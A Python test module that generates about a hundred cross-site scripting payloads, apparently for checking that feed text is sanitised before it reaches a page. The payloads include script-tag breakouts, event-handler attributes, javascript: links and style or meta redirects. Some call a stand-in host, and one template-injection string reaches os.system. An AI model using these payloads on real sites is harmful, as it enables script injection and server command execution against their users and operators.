"""A hundred ways in which text from a feed could try to run on a page."""

from collections.abc import Iterator

HOST = "http://paser-xss.test"

_CALLS = (
    "document.title='hit'",
    "fetch('{host}/{n}')",
    "new Image().src='{host}/{n}'",
    "top.location='{host}/{n}'",
)
_FORMS = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "</ScRiPt ><script>{call}//",
    "<!--<script>{call}",
    "--></script><script>{call}</script>",
    "]]></script><script>{call}</script>",
    '<img src=x onerror="{call}">',
    '"><img src=x onerror="{call}">',
    "'><svg onload={call}>",
    '<svg><animate onbegin="{call}" attributeName=x>',
    '<iframe srcdoc="<script>parent.{call}</script>">',
    '<a href="javascript:{call}">x</a>',
    '<form><button formaction="javascript:{call}">x',
    '<details open ontoggle="{call}">',
    '<input autofocus onfocus="{call}">',
    '<body onload="{call}">',
    '<style>@import "{host}/{n}";</style>',
    '<link rel=stylesheet href="{host}/{n}">',
    '<meta http-equiv=refresh content="0;url={host}/{n}">',
    '<base href="{host}/">',
    "`${{{call}}}`",
    "${{{call}}}",
    "{{{{ cycler.__init__.__globals__.os.system('{call}') }}}}",
    "{{% for x in [1] %}}<img src=x onerror={call}>{{% endfor %}}",
    "{{# @@PICTURE@@ @@POLICY@@ #}}\u2028{call}",
    "\\u003cimg src=x onerror={call}\\u003e&lt;img src=x onerror={call}&gt;",
)


def payloads() -> list[str]:
    """Return them, each with a number of its own in what it calls."""
    return list(_made())


def _made() -> Iterator[str]:
    for number, form in enumerate(_FORMS * len(_CALLS)):
        call = _CALLS[number % len(_CALLS)].format(host=HOST, n=number)
        yield form.format(call=call, host=HOST, n=number)
